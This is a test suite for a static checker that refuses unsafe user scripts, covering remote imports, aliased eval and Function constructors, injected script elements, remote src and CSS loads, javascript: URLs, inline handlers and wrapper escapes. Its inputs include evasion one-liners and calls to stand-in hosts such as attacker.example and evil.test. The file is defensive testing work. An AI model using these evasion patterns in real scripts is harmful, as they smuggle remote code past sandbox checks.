import { describe, it, expect } from 'vitest';
import { checkScript } from '../../../../contracts/policy/script-check';
import { readCorpus } from '../../../corpora/read';

interface Evasion {
  id: string;
  category: string;
  code: string;
  static_check_should: 'reject' | 'allow';
  why: string;
}

const corpus: Evasion[] = readCorpus<Evasion[]>('js-static-check-evasions.json');

function refused(code: string): boolean {
  return !checkScript(code).ok;
}

describe('js-static-check-evasions corpus', () => {
  // The save-time check sees only literals and constants folded from them. These entries build the
  // dangerous value at run time, so it cannot see them; the sandbox's content security policy is what
  // stops each one (no script-src for blob-less remote code, no 'unsafe-eval', scripts only from the package).
  const UNCAUGHT: Record<string, string> = {
    'js-9': 'import() of a blob: URL made at run time; the sandbox allows local blob: modules, which have no network',
    'js-31': 'setTimeout with a variable: the check cannot know it holds a string; CSP blocks string timers',
    'js-51': 'clones a page script and sets a relative src; the sandbox has no page document, and CSP blocks the load',
  };
  // js-35 uses `with`, which a module (strict mode) cannot contain: refused as a syntax error.
  const SYNTAX: Record<string, string> = { 'js-35': "'with' in strict mode" };

  it('has the entries this suite expects', () => {
    expect(corpus.length).toBe(36);
  });
  it.each(corpus.filter((e) => e.static_check_should === 'allow').map((e) => [e.id, e.code] as const))('%s passes: %s', (_id, code) => {
    expect(checkScript(code)).toEqual({ ok: true });
  });
  const rejects = corpus.filter((e) => e.static_check_should === 'reject');
  it('catches exactly the reject entries the literal rule can see', () => {
    const caught = rejects.filter((e) => refused(e.code)).map((e) => e.id);
    const missed = rejects.filter((e) => !refused(e.code)).map((e) => e.id);
    expect(missed.sort()).toEqual(Object.keys(UNCAUGHT).sort());
    expect(caught.length).toBe(rejects.length - Object.keys(UNCAUGHT).length);
  });
  it.each(rejects.filter((e) => !(e.id in UNCAUGHT)).map((e) => [e.id, e] as const))('%s is refused with a located reason', (_id, e) => {
    const r = checkScript(e.code);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    const expectedCode = e.id in SYNTAX ? 'SCRIPT_SYNTAX' : 'SCRIPT_REMOTE_CODE';
    for (const x of r.refusals) {
      expect(x.code).toBe(expectedCode);
      expect(x.line).toBe(1);
      expect(x.reason).toMatch(/^line 1, column \d+: /);
    }
    if (e.id in SYNTAX) expect(r.refusals[0]?.reason).toContain(SYNTAX[e.id]);
  });
});

describe('checkScript rules', () => {
  it('refuses static imports and re-exports', () => {
    expect(refused("import './helper.js'")).toBe(true);
    expect(refused("import { a } from './a.js'")).toBe(true);
    expect(refused("export * from 'https://cdn.example/x.js'")).toBe(true);
    expect(refused("export { a } from './a.js'")).toBe(true);
    expect(refused('export const a = 1')).toBe(false);
  });
  it('refuses import() of any literal, and of a literal-prefixed remote address', () => {
    expect(refused("await import('//cdn.example/m.js')")).toBe(true);
    expect(refused("await import('./local.js')")).toBe(true);
    expect(refused('await import(`https://cdn.example/${name}.js`)')).toBe(true);
    expect(refused("await import('https://' + host + '/m.js')")).toBe(true);
    expect(refused("await import('data:text/javascript,export default 1')")).toBe(true);
    expect(refused('await import(moduleUrl)')).toBe(false);
  });
  it('refuses created script elements however the name is spelled', () => {
    expect(refused("document.createElement('SCRIPT')")).toBe(true);
    expect(refused('document.createElement(`scr${"ipt"}`)')).toBe(true);
    expect(refused("dom.create('script', { text: 'x' })")).toBe(true);
    expect(refused("document.createElement.call(document, 'script')")).toBe(true);
    expect(refused("document.createElement.bind(document)('script')")).toBe(true);
    expect(refused("document.createElementNS('http://www.w3.org/2000/svg', 'script')")).toBe(true);
    expect(refused("const tag = 'scr'; const full = tag + 'ipt'; document.createElement(full)")).toBe(true);
    expect(refused("dom.create('div', { text: 'script' })")).toBe(false);
    expect(refused("let t = 'script'; t = 'div'; document.createElement(t)")).toBe(false);
  });
  it('allows eval and Function only with literal arguments', () => {
    expect(refused("eval('1 + 1')")).toBe(false);
    expect(refused('eval()')).toBe(false);
    expect(refused('new Function("a", "b", "return a + b")')).toBe(false);
    expect(refused('eval(`1 + ${x}`)')).toBe(true);
    expect(refused('window.eval(code)')).toBe(true);
    expect(refused('globalThis.eval(code)')).toBe(true);
    expect(refused('self["eval"](code)')).toBe(true);
    expect(refused('const e = eval; e(code)')).toBe(true);
    expect(refused('new Function("a", body)')).toBe(true);
    expect(refused('Function.apply(null, [code])')).toBe(true);
    expect(refused('Reflect.construct(Function, [code])')).toBe(true);
    expect(refused('window.Function(code)')).toBe(true);
    expect(refused('Function.prototype.constructor(code)')).toBe(true);
    expect(refused('[].constructor.constructor(code)')).toBe(true);
    expect(refused('(async () => {}).constructor(code)')).toBe(true);
  });
  it('reads names declared anywhere in the script, also below their use', () => {
    // The rules run after one walk has seen every declaration: a const below its use still folds.
    expect(refused("function go() { return x[k](code) } const k = 'constructor'; const x = go;")).toBe(true);
    expect(refused("function go() { return import(u) } const u = 'https://attacker.example/m.js';")).toBe(true);
    expect(refused("function go(s) { return (0, x)[k + 'uctor'](s) } const k = 'constr';")).toBe(true);
    // A Function declared anywhere (even after the call) is not the Function constructor.
    expect(refused('function go(code) { return Function(code) } function Function(x) { return x }')).toBe(false);
    expect(refused('function go(code) { return Function(code) }')).toBe(true);
  });
  it('does not refuse ordinary uses of these names', () => {
    const benign = [
      'if (typeof eval === "function") rmx.log("ok")',
      'if (x instanceof Function) x()',
      'const call = Function.prototype.call; call.bind(fn)',
      'const n = Function.name + Function.length',
      'class A { clone() { return new this.constructor(this.a); } }',
      'if (obj.constructor === Object) rmx.log(obj.constructor.name)',
      'const Function = (x) => x; Function(code)',
      'const parsed = JSON.parse(text)',
      'math.evaluate(expr)',
    ];
    for (const code of benign) expect(checkScript(code), code).toEqual({ ok: true });
  });
  it('refuses eval and Function reached through another name: an alias of the global, a destructured key, a lookup by name', () => {
    const aliased = [
      'const g = globalThis; g.eval(x)',
      'const g = window; g["eval"](x)',
      'const { eval: e } = globalThis; e(x)',
      'const { Function: F } = self; F(x)()',
      "const { ['ev' + 'al']: e } = globalThis; e(x)",
      "Reflect.get(globalThis, 'eval')(x)",
      "Reflect.get(globalThis, 'ev' + 'al')(x)",
      "Object.getOwnPropertyDescriptor(globalThis, 'Function').value(x)",
      "const k = 'eval'; const f = globalThis[k]; f(x)",
      'new g.Function(x)',
      'const g = globalThis; new g.Function("a", body)',
      'function run(o, s) { return o.eval(s) }',
    ];
    for (const code of aliased) expect(refused(code), code).toBe(true);
    // A direct call of eval or Function with literal arguments stays allowed, by any spelling of the global.
    // So does the name as a plain label.
    for (const code of ["eval('1 + 1')", "globalThis.eval('1')", "globalThis['eval']('1')", 'new Function("a", "b", "return a + b")', 'g.eval("1")', 'new g.Function("return 1")', "probe('Function', () => 1); rmx.log('eval')"]) {
      expect(checkScript(code), code).toEqual({ ok: true });
    }
  });
  it('refuses a created script element made through another name for create', () => {
    expect(refused("const { create } = dom; create('script')")).toBe(true);
    expect(refused("const { create: make } = dom; make('script')")).toBe(true);
    expect(refused("const { createElement } = document; createElement('script')")).toBe(true);
    expect(refused("const make = dom.create; make('script')")).toBe(true);
    expect(refused("const make = document.createElement.bind(document); make('script')")).toBe(true);
    expect(refused("Reflect.get(dom, 'create')('script')")).toBe(true);
    expect(refused("create('script')")).toBe(true);
    expect(refused("const d = dom; const make = d.create; make('script')")).toBe(true);
    expect(refused("const d = dom; const { create: make } = d; make('script')")).toBe(true);
    expect(refused("const make = globalThis.dom.create; make('script')")).toBe(true);
    // Other tags, and ordinary calls of create, are fine.
    const fine = [
      "create('div')",
      "dom.create('div', { text: 'script' })",
      'const o = Object.create(null)',
      "const list = await dom.create('ul', { children: [dom.create('li')] })",
      // `create` as an ordinary field name, read or destructured from anything but dom.
      'for (const step of steps) if (step.create) await dom.create(step.create, { attrs: step.attrs })',
      'for (const { create, attrs } of steps) await dom.create(create, { attrs })',
      'const { query, queryAll } = dom',
    ];
    for (const code of fine) {
      expect(checkScript(code), code).toEqual({ ok: true });
    }
  });
  it('refuses string timers and allows function timers', () => {
    expect(refused("setTimeout('tick()', 100)")).toBe(true);
    expect(refused('setInterval(`tick(${n})`, 100)')).toBe(true);
    expect(refused("window.setTimeout('a' + b, 0)")).toBe(true);
    expect(refused('setTimeout.call(window, "x()", 1)')).toBe(true);
    expect(refused('setTimeout(String(x), 1)')).toBe(true);
    expect(refused('setTimeout(tick, 100)')).toBe(false);
    expect(refused('setInterval(() => tick(), 100)')).toBe(false);
    expect(refused('obj.setTimeout("x", 1)')).toBe(false);
  });
  it('refuses remote literal addresses set as src, unless on an allowed host', () => {
    expect(refused("img.src = 'https://cdn.example/a.png'")).toBe(true);
    expect(refused("img['src'] = '//cdn.example/a.png'")).toBe(true);
    expect(refused("h.setAttr('src', 'https://cdn.example/a.png')")).toBe(true);
    expect(refused("el.setAttribute('SRC', 'https://cdn.example/' + name)")).toBe(true);
    expect(refused("dom.create('img', { attrs: { src: 'https://cdn.example/a.png' } })")).toBe(true);
    expect(refused("img.srcset = 'a.png 1x, https://cdn.example/b.png 2x'")).toBe(true);
    expect(refused("img.src = '/static/a.png'")).toBe(false);
    expect(refused("img.src = 'data:image/png;base64,iVBORw0KGgo='")).toBe(false);
    expect(refused('img.src = url')).toBe(false);
    const opts = { allowedHosts: ['cdn.example', '*.shop.test'] };
    expect(checkScript("h.setAttr('src', 'https://cdn.example/a.png')", opts).ok).toBe(true);
    expect(checkScript("img.src = 'https://img.shop.test/' + id + '.png'", opts).ok).toBe(true);
    // A host that a run-time value may still complete is judged where the address rule runs, not here.
    expect(checkScript("img.src = 'https://img.shop.test' + path", opts).ok).toBe(true);
    expect(checkScript('img.src = `https://${location.host}/a.png`', opts).ok).toBe(true);
    expect(checkScript('h.setHTML(`<a href="https://${location.host}/cart">cart</a>`)', opts).ok).toBe(true);
    expect(checkScript("img.src = '//' + host + '/a.png'", {}).ok).toBe(true);
    // A host already ended by "/", "?", "#" or the literal's end is judged in full.
    expect(checkScript("img.src = 'https://evil.test/' + file", opts).ok).toBe(false);
    expect(checkScript("img.src = 'https://evil.test?' + q", opts).ok).toBe(false);
    expect(checkScript("img.src = 'https://cdn.example@evil.test/a.png'", opts).ok).toBe(false);
    expect(checkScript("img.src = 'https://evil.test/a.png'", opts).ok).toBe(false);
    expect(checkScript("img.src = 'https://evil.test/a.png'", { everySite: true }).ok).toBe(true);
  });
  it('reads remote addresses written in HTML for the page, as the address rule will when it runs', () => {
    const refusal = (code: string, opts = {}) => {
      const r = checkScript(code, opts);
      return r.ok ? undefined : r.refusals[0]?.reason;
    };
    expect(refusal("h.setHTML('<img src=https://evil.test/p.png>')")).toMatch(/HTML given to setHTML has src="https:\/\/evil\.test\/p\.png", a remote address/);
    expect(refused("h.setHTML('<p>Deals</p><a class=more href=\"https://evil.test/?id=7\">more</a>')")).toBe(true);
    // Spelled as the HTML tokenizer reads it: any case, spaces around =, character references, protocol-relative.
    expect(refused("h.setHTML('<IMG SRC = \"https&#58;//evil.test/p.png\">')")).toBe(true);
    expect(refused("h.setHTML('<img alt=\"' + title + '\" src=\"//evil.test/p.png\">')")).toBe(true);
    // A run-time value before the attribute, or after the host, hides nothing the check needs.
    expect(refused('h.setHTML(`<img ${attrs} src="https://evil.test/${file}">`)')).toBe(true);
    expect(refused("el.insertAdjacentHTML('beforeend', \"<img src='https://evil.test/x'>\")")).toBe(true);
    expect(refused("const banner = '<img src=https://evil.test/b.png>'; h.setHTML(banner)")).toBe(true);
    // A comment, a declaration or a processing instruction holds no tag: a quote opened inside one leaves no attribute open.
    expect(refused(`h.setHTML('<!-- <a title=" --><img src=https://evil.test/p.png>')`)).toBe(true);
    expect(refused(`h.setHTML('<![CDATA[ <a title=" ]]><img src=https://evil.test/p.png>')`)).toBe(true);
    expect(refused(`h.setHTML('<?x <a title=" ?><img src=https://evil.test/p.png>')`)).toBe(true);
    expect(refused(`h.setHTML('<!DOCTYPE x "><img src=https://evil.test/p.png>')`)).toBe(true);
    expect(refused(`h.setHTML('<!--><img src=https://evil.test/p.png>')`)).toBe(true);
    expect(refused(`h.setHTML('<!---><img src=https://evil.test/p.png>')`)).toBe(true);
    // And what a comment holds is not read as a tag.
    expect(checkScript(`h.setHTML('<!-- <img src=https://evil.test/p.png> --><p>Deals</p>')`)).toEqual({ ok: true });
    // On the remixlet's own hosts, relative, a value made at run time, or prose about an address: left to the address rule.
    const opts = { allowedHosts: ['shop.test'] };
    expect(checkScript("h.setHTML('<img src=https://shop.test/a.png><a href=\"https://shop.test/cart\">cart</a>')", opts)).toEqual({ ok: true });
    expect(checkScript("h.setHTML('<img src=https://evil.test/a.png>')", opts).ok).toBe(false);
    expect(checkScript("h.setHTML('<img src=https://evil.test/a.png>')", { everySite: true })).toEqual({ ok: true });
    expect(checkScript("h.setHTML('<img src=/a.png><a href=\"#top\">top</a>')")).toEqual({ ok: true });
    expect(checkScript('h.setHTML(`<img src="${url}">`)')).toEqual({ ok: true });
    expect(checkScript("h.setHTML('<p>Copy src=https://evil.test/ into the box</p>')")).toEqual({ ok: true });
  });
  it('refuses CSS for dom.addStyle and h.setStyle that would load something, as the page agent will', () => {
    expect(refused("dom.addStyle('.deal { background: url(https://evil.test/p.png) }')")).toBe(true);
    expect(refused("dom.addStyle('.deal { background: url(' + pic + ') }')")).toBe(true);
    expect(refused("await dom.addStyle(`@import 'https://evil.test/a.css';`)")).toBe(true);
    expect(refused("h.setStyle({ backgroundImage: 'url(https://evil.test/p.png)' })")).toBe(true);
    expect(refused("const look = { 'list-style': 'url(\"//evil.test/dot\")' }; h.setStyle(look)")).toBe(true);
    // Every site or not: these calls may load nothing at all.
    expect(checkScript("dom.addStyle('.x { background: url(https://evil.test/p.png) }')", { everySite: true }).ok).toBe(false);
    expect(checkScript("dom.addStyle('.deal { color: ' + colour + '; font-weight: 700 }'); h.setStyle({ color: 'red', width: 10, marginTop: gap })")).toEqual({ ok: true });
  });
  it('refuses javascript: addresses and markup that runs code', () => {
    expect(refused("a.href = 'javascript:alert(1)'")).toBe(true);
    expect(refused("h.setAttr('href', ' JavaScript:go()')")).toBe(true);
    expect(refused("window.open('javascript:x')")).toBe(true);
    expect(refused("location.replace('javascript:x')")).toBe(true);
    expect(refused("h.setHTML('<b onclick=\"go()\">x</b>')")).toBe(true);
    expect(refused('el.insertAdjacentHTML("beforeend", `<img src=x onerror=${code}>`)')).toBe(true);
    expect(refused("el.setAttribute('onmouseover', handler)")).toBe(true);
    expect(refused("h.setHTML('<b>bold</b> and <i>italic</i>')")).toBe(false);
    expect(refused("if (href.startsWith('javascript:')) h.remove()")).toBe(false);
    expect(refused("const s = str.replace('javascript:', '')")).toBe(false);
  });
  it('refuses workers and worklets loaded from addresses', () => {
    expect(refused("new Worker('https://cdn.example/w.js')")).toBe(true);
    expect(refused("new SharedWorker('data:text/javascript,1')")).toBe(true);
    expect(refused("navigator.serviceWorker.register('/sw.js')")).toBe(false);
    expect(refused("CSS.paintWorklet.addModule('https://cdn.example/p.js')")).toBe(true);
    expect(refused('new Worker(URL.createObjectURL(blob))')).toBe(false);
  });
  it('reports syntax errors with their line', () => {
    const r = checkScript('const a = 1;\nconst b = ;\n');
    expect(r).toMatchObject({ ok: false, refusals: [{ code: 'SCRIPT_SYNTAX', line: 2, column: 11 }] });
    if (!r.ok) expect(r.refusals[0]?.reason).toMatch(/^line 2, column 11: Unexpected token\. /);
  });
  it('reports every refusal with its own line and column', () => {
    const r = checkScript("const x = 1;\n  eval(code);\nimg.src = 'https://evil.test/p';\n");
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.refusals.map((x) => [x.line, x.column])).toEqual([
      [2, 3],
      [3, 1],
    ]);
  });
  it('allows a top-level return, as the runtime runs the script inside an async function', () => {
    expect(checkScript("const el = await dom.query('.x');\nif (!el) return;\nawait el.hide();")).toEqual({ ok: true });
  });
  it('refuses text that would step out of the runtime wrapper', () => {
    expect(checkScript('rmx.log(1)\n})();\nfetch("https://evil.test");\n(async () => {')).toMatchObject({ ok: false, refusals: [{ code: 'SCRIPT_SYNTAX', line: 2 }] });
  });
  it('reads modules: top-level await and modern syntax pass', () => {
    expect(checkScript('const el = await dom.query(".x"); el?.hide(); for await (const e of rmx.events()) {} class A { #p = 1; static { } }')).toEqual({ ok: true });
  });
});

describe('realistic remixlet scripts pass', () => {
  const scripts = [
    `// Hide promoted posts and keep them hidden while the feed redraws
rmx.keep('no-promoted', {
  async check() { return (await dom.queryAll('[data-promoted="true"]')).length === 0; },
  async repair() { for (const h of await dom.queryAll('[data-promoted="true"]')) await h.hide(); },
});`,
    `const price = await dom.query('.price');
const text = await price.text();
const n = Number(text.replace(/[^0-9.]/g, ''));
const badge = await dom.create('span', { text: 'Per unit: ' + (n / 12).toFixed(2), attrs: { class: 'unit' } });
await price.after(badge);
setTimeout(() => rmx.log('done'), 500);`,
    `const saved = (await rmx.storage.get('density')) ?? 'compact';
await dom.addStyle('.row { padding: ' + (saved === 'compact' ? '2px' : '8px') + ' }');
rmx.menu.add({ id: 'toggle', title: 'Toggle density' }, async () => {
  await rmx.storage.set('density', saved === 'compact' ? 'comfy' : 'compact');
});`,
    `const res = await rmx.fetch('https://api.example.com/v1/items?limit=10');
const items = JSON.parse(res.body);
const list = await dom.create('ul', { children: items.map((i) => ({ tag: 'li', text: i.title })) });
const logo = await dom.create('img', { attrs: { src: '/static/logo.png', alt: '' } });
await (await dom.query('main')).prepend(list);`,
    `const rows = await dom.queryAll('table tr', { limit: 500 });
await dom.batch(async () => { for (const [i, r] of rows.entries()) if (i % 2) await r.addClass('odd'); });
const timer = setInterval(async () => { const t = await dom.title(); rmx.log(t); }, 60_000);`,
  ];
  it.each(scripts.map((s, i) => [i, s] as const))('script %i', (_i, s) => {
    expect(checkScript(s)).toEqual({ ok: true });
  });
});
